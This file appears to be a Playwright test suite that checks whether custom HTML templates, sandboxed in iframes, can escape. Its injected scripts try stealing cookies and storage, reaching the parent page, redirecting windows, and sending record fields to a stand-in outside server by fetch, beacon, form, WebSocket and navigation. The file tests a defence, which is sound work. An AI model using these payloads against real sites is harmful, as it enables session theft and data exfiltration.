import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { open, ready } from './annotating';
import { expectNothingRan } from './harmless';
import { Place } from './made';
import { expect, test } from './story';

// Names here stay out of the way of other files' stories.
test.describe.configure({ mode: 'parallel' });

/** A host that no template may reach; what came to it all the same. */
async function elsewhere() {
  const reached: string[] = [];
  const server = createServer((request, answer) => {
    reached.push(request.url ?? '');
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('window.stolen = 1');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // Where a frame leads itself elsewhere, browsers open a connection before they look at the policy
  // that forbids it; nothing is ever asked over it.
  const close = async () => {
    const closed = new Promise((done) => server.close(done));
    server.closeAllConnections();
    await closed;
  };
  return { reached, url, close };
}

for (const advanced of [false, true]) {
  test(`what a template runs stays in its frame, advanced mode ${String(advanced)}`, async ({
    context,
    faults,
    page,
    signIn,
    world,
  }) => {
    const other = await elsewhere();
    const place = await Place.at(world.url);
    const tries = `
      const report = {};
      const other = '${other.url}', own = '${world.url}';
      const attempt = (name, work) => {
        try { const value = work(); report[name] = value ? 'got ' + value : 'nothing'; }
        catch (error) { report[name] = error.name; }
      };
      // What is neither done nor refused by then was not even tried.
      const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 2000, 'nothing'))]);
      const sees = (name, url) => fetch(url, { credentials: 'include' })
        .then(() => 'got', (error) => error.name).then((told) => { report[name] = told; });
      const loads = (name, tag, set) => soon(new Promise((done) => {
        const made = document.createElement(tag);
        made.onload = () => done('got'); made.onerror = () => done('refused');
        Object.assign(made, set); document.body.append(made);
      })).then((told) => { report[name] = told; });
      const opens = (name, make) => soon(new Promise((done) => {
        try { const made = make(); made.onopen = made.onmessage = () => done('got');
          made.onerror = () => done('refused'); }
        catch (error) { done(error.name); }
      })).then((told) => { report[name] = told; });
      attempt('cookie', () => document.cookie);
      attempt('cookie written', () => { document.cookie = 'stolen=1'; return 'written'; });
      attempt('local storage', () => localStorage.length + 1);
      attempt('session storage', () => sessionStorage.length + 1);
      attempt('caches', () => caches.keys() && 'a promise');
      attempt('parent document', () => parent.document.title);
      attempt('parent variable', () => { parent.stolen = 1; return 'written'; });
      attempt('parent storage', () => parent.localStorage.length + 1);
      attempt('own frame', () => frameElement.id + 'got');
      attempt('top document', () => top.document.cookie);
      attempt('top location', () => top.location.href);
      attempt('top moved', () => { top.location = other + '/top'; return 'moved'; });
      attempt('parent moved', () => { parent.location.replace(other + '/parent'); return 'moved'; });
      attempt('window', () => window.open(other + '/window') && 'a window');
      attempt('domain', () => { document.domain = '127.0.0.1'; return 'set'; });
      attempt('origin', () => origin);
      attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['']))) && 'a worker');
      attempt('service worker', () => navigator.serviceWorker.register('/x.js') && 'one');
      attempt('dialog', () => { alert(1); return confirm('1') || prompt('1') || 'nothing shown'; });
      attempt('beacon', () => navigator.sendBeacon(other + '/beacon', 'x') && 'sent');
      // As the pages of the application tell each other that somebody has signed out.
      attempt('channel', () => { new BroadcastChannel('variorum')
        .postMessage({ kind: 'left', user: '${place.first.id}' }); return 'told'; });
      for (const type of ['submit', 'left', 'render']) parent.postMessage({ type, kind: type }, '*');
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload'])
        document.head.append(Object.assign(document.createElement('link'),
          { rel, href: other + '/' + rel, as: 'image' }));
      document.body.insertAdjacentHTML('beforeend',
        '<p style="background:url(' + other + '/css)">x</p><p style="width:expression(parent.stolen=1)">x</p>' +
        '<svg><use href="' + other + '/use#x"></use></svg><video src="' + other + '/video"></video>' +
        '<object data="' + other + '/object"></object><embed src="' + other + '/embed">' +
        '<iframe src="' + own + '/"></iframe><iframe src="' + other + '/frame"></iframe>');
      const form = (name, action, target) => attempt(name, () => {
        const made = Object.assign(document.createElement('form'),
          { action, method: 'post', target }); document.body.append(made); made.submit(); return 'sent'; });
      form('form', other + '/form', '');
      form('form to the top', other + '/form-top', '_top');
      form('form to our own', own + '/api/v1/session', '_blank');
      Promise.all([
        sees('fetch other', other + '/fetch'), sees('fetch own', own + '/api/v1/me'),
        loads('image', 'img', { src: other + '/image' }),
        loads('script', 'script', { src: other + '/script' }),
        loads('style', 'link', { rel: 'stylesheet', href: other + '/style' }),
        loads('preload', 'link', { rel: 'preload', as: 'script', href: other + '/preload' }),
        loads('own script', 'script', { src: own + '/api/v1/session' }),
        import(other + '/module').then(() => 'got', (error) => error.name)
          .then((told) => { report.module = told; }),
        opens('socket', () => new WebSocket(other.replace('http', 'ws') + '/socket')),
        opens('own socket', () => new WebSocket(own.replace('http', 'ws') + '/socket')),
        opens('events', () => new EventSource(other + '/events')),
        opens('own events', () => new EventSource(own + '/api/v1/me/events', { withCredentials: true })),
        soon(new Promise((done) => { const made = indexedDB ? indexedDB.open('variorum') : null;
          made.onsuccess = () => done('got'); made.onerror = () => done('refused'); }))
          .catch((error) => error.name).then((told) => { report.database = told; }),
      ]).then(() => {
        document.body.append(Object.assign(document.createElement('pre'),
          { textContent: JSON.stringify(report) }));
      });`;
    // Without advanced mode scripts of a template do not run, but handlers of events do.
    const template = advanced
      ? `<script>${tries}</script>`
      : `<img src="data:," alt="" onerror="${tries.replaceAll('"', '&quot;')}">`;
    const made = await place.make({
      fields: [{ name: 'shown', settings: { type: 'custom', template, advanced_mode: advanced } }],
      items: [{ external_id: 'a', fields: { shown: { secret: 1 } } }],
    });
    await signIn(place.first);
    await open(page, made);
    const address = page.url();
    const frame = page.frameLocator('[data-field="shown"] iframe');
    const report = JSON.parse(await frame.locator('pre').innerText()) as Record<string, string>;
    const nothing = expect.stringMatching(/Error|nothing|refused/);
    // What is said to be done is looked at below: nothing came of it.
    const vain = expect.stringMatching(/./);
    expect(report).toEqual({
      ...Object.fromEntries(Object.keys(report).map((name) => [name, nothing])),
      'top moved': vain,
      'parent moved': vain,
      'cookie written': vain,
      channel: vain,
      dialog: vain,
      beacon: vain,
      form: vain,
      'form to the top': vain,
      'form to our own': vain,
      caches: vain,
      origin: 'got null',
      worker: vain,
      'service worker': vain,
    });
    for (const name of ['cookie', 'local storage', 'session storage', 'parent document'])
      expect([name, report[name]]).toEqual([name, 'SecurityError']);
    // Nothing of it reached the page, which is where it was, and whose it was.
    await expect(page.getByText(new RegExp(`^Blocked: ${other.url}`)).first()).toBeVisible();
    expect(page.url()).toBe(address);
    await ready(page);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    expect(
      await page.evaluate(() => 'stolen' in window || document.cookie.includes('stolen')),
    ).toBe(false);
    expect(await made.answers()).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    await expectNothingRan(page);
    // The last word is ours: whatever had been sent would have come before it.
    await fetch(`${other.url}/ours`);
    expect(other.reached).toEqual(['/ours']);
    // What the browser refused it says, and nothing else happened.
    const rest = faults.filter(
      (one) =>
        !/^console: .*(polic|sandbox|frame|refused|violat|blocked|denied|preload)/i.test(one),
    );
    expect(rest.filter((one) => !one.includes(other.url))).toEqual([]);
    faults.length = 0;
    await other.close();
  });
}

test('a template cannot lead its frame, the page or another window elsewhere', async ({
  context,
  faults,
  page,
  signIn,
  world,
}) => {
  const other = await elsewhere();
  const place = await Place.at(world.url);
  const ways: Record<string, string> = {
    itself: `location.href = '${other.url}/itself?' + JSON.stringify(record.fields)`,
    refresh: `document.head.insertAdjacentHTML('beforeend',
      '<meta http-equiv=refresh content="0;url=${other.url}/refresh">')`,
    link: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: '${other.url}/link', target: '_top' }).click()`,
    blank: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: '${other.url}/blank', target: '_blank', ping: '${other.url}/ping' }).click()`,
    script: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: 'javascript:parent.stolen=1', target: '_parent' }).click()`,
    download: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: '${other.url}/download', download: 'x' }).click()`,
    form: `document.body.insertAdjacentHTML('beforeend',
      '<form action="${other.url}/form" target="_top"><input name="x"></form>');
      document.forms[0].requestSubmit()`,
    inner: `const inner = document.body.appendChild(document.createElement('iframe'));
      try { inner.contentWindow.fetch('${other.url}/inner'); } catch { /* It is another origin. */ }`,
    srcdoc: `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' +
      '<script>fetch(\\'${other.url}/srcdoc\\').catch(() => 0)<\\/script><img src=${other.url}/srcdoc-image>"></iframe>')`,
  };
  const made = await place.make({
    fields: Object.entries(ways).map(([name, way]) => ({
      name,
      settings: {
        type: 'custom',
        advanced_mode: true,
        // The page takes no more from a frame than how high it is: by that it is seen to have run.
        template: `<div style="height:300px">${name}</div><script>
          parent.postMessage({ type: 'height', height: 333 }, '*'); ${way};</script>`,
      },
    })),
    items: [{ fields: Object.fromEntries(Object.keys(ways).map((name) => [name, { a: 1 }])) }],
  });
  await signIn(place.first);
  await open(page, made);
  const address = page.url();
  for (const name of Object.keys(ways)) {
    const frame = page.locator(`[data-field="${name}"] iframe`);
    await frame.scrollIntoViewIfNeeded();
    await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(299);
  }
  expect(page.url()).toBe(address);
  expect(context.pages()).toHaveLength(1);
  await expectNothingRan(page);
  await fetch(`${other.url}/ours`);
  expect(other.reached).toEqual(['/ours']);
  const rest = faults.filter(
    (one) => !/^console: .*(polic|sandbox|frame|refused|violat|blocked|denied)/i.test(one),
  );
  expect(rest.filter((one) => !one.includes(other.url))).toEqual([]);
  faults.length = 0;
  await other.close();
});
